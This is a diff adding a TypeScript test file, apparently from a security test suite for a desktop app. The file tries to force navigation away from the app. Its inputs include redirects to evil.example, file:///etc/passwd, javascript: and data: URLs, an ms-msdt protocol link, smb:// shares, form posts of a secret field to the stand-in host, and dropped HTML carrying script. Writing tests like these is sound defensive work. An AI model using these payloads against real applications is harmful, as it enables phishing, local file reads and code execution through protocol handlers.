@@ -1,0 +1,72 @@
+import { type Attack, attack, gain, lateAttack } from '../attack.ts';
+import { clickAs, go, withHtml } from '../in-page.ts';
+
+const evil = 'https://evil.example';
+
+/** Addresses that a script sends the page to. */
+const addresses: readonly [string, string][] = [
+  ['another site', `${evil}/`],
+  ['another host of the app’s own scheme', 'https://other.app.invalid/'],
+  ['a file of the computer', 'file:///etc/passwd'],
+  ['javascript:', 'javascript:globalThis.pwned="javascript:"'],
+  ['data:', 'data:text/html,<h1>evil</h1>'],
+  ['a page of the browser', 'chrome://version/'],
+  ['the app’s own deep link', 'vitae://signed-in?code=evil-code&state=x'],
+  ['another program', 'ms-msdt:/id PCWDiagnostic'],
+];
+
+/** Leaving the page, with and without a person’s help. */
+export const navigation: readonly Attack[] = [
+  ...addresses.map(([name, address]) => lateAttack(`a script leads the page to ${name}`, async ({ page }) => go(page, address))),
+  lateAttack('a script leads the page to a blob: of its own', async ({ page }) => {
+    await page.evaluate(() => {
+      location.href = URL.createObjectURL(new Blob(['<script>globalThis.pwned = "blob"</script>'], { type: 'text/html' }));
+    });
+    return '';
+  }),
+  lateAttack('a meta element refreshes the page to another site', async ({ page }) => {
+    await page.evaluate((to) => {
+      const meta = document.createElement('meta');
+      Object.assign(meta, { httpEquiv: 'refresh', content: `0;url=${to}` });
+      document.head.append(meta);
+      meta.remove();
+    }, `${evil}/refreshed`);
+    return '';
+  }),
+  lateAttack('a clicked link without a target leads to a local program', async ({ page }) => clickAs(page, () => void (location.href = 'smb://evil.example/share'))),
+  lateAttack('a form posts the page to another site, where no policy holds', async ({ bare }) => {
+    const page = await bare();
+    await withHtml(page, `<form method="post" action="${evil}/form"><input name="secret" value="1"></form>`);
+    await page.evaluate(() => document.forms.item(document.forms.length - 1)?.submit());
+    return '';
+  }),
+  lateAttack('a frame of another site, where no policy holds', async (computer) => {
+    await withHtml(await computer.bare(), `<iframe src="${evil}/framed"></iframe>`);
+    return '';
+  }),
+  lateAttack('a frame of the app itself, where no policy holds', async ({ bare, control }) => {
+    const page = await bare();
+    await withHtml(page, '<iframe src="/account/settings"></iframe>');
+    await page.waitForTimeout(150);
+    const [, second] = await control.windows();
+    const frames = await control.frames(second?.id);
+    await page.evaluate(() => document.querySelector('iframe')?.remove());
+    return gain(frames.some(({ main, url }) => !main && url.startsWith('app://vitae/')), 'the app is in a frame');
+  }),
+  attack('a view embedded with its own rights', async ({ control }) => gain(!(await control.emitOnPage('will-attach-webview')), 'the view was attached')),
+  attack('a page is dropped onto a new window', async ({ bare, control, treasure }) => {
+    await bare();
+    const second = (await control.windows()).at(-1)?.id;
+    return gain(await control.dropFile(treasure.replace('.json', '.html'), second), 'the window went to the file');
+  }),
+  lateAttack('a file dropped in by script is opened by nobody', async ({ page }) => {
+    await page.evaluate(() => {
+      const given = new DataTransfer();
+      given.items.add(new File(['<script>globalThis.pwned = "dropped"</script>'], 'page.html', { type: 'text/html' }));
+      given.setData('text/uri-list', 'https://evil.example/dropped');
+      for (const type of ['dragenter', 'dragover', 'drop']) document.body.dispatchEvent(new DragEvent(type, { dataTransfer: given, bubbles: true, cancelable: true }));
+    });
+    return '';
+  }),
+  attack('a redirect that the program is asked about', async ({ control }) => gain(!(await control.emitOnPage('will-redirect', { url: `${evil}/`, isMainFrame: true })), 'the redirect was followed')),
+];
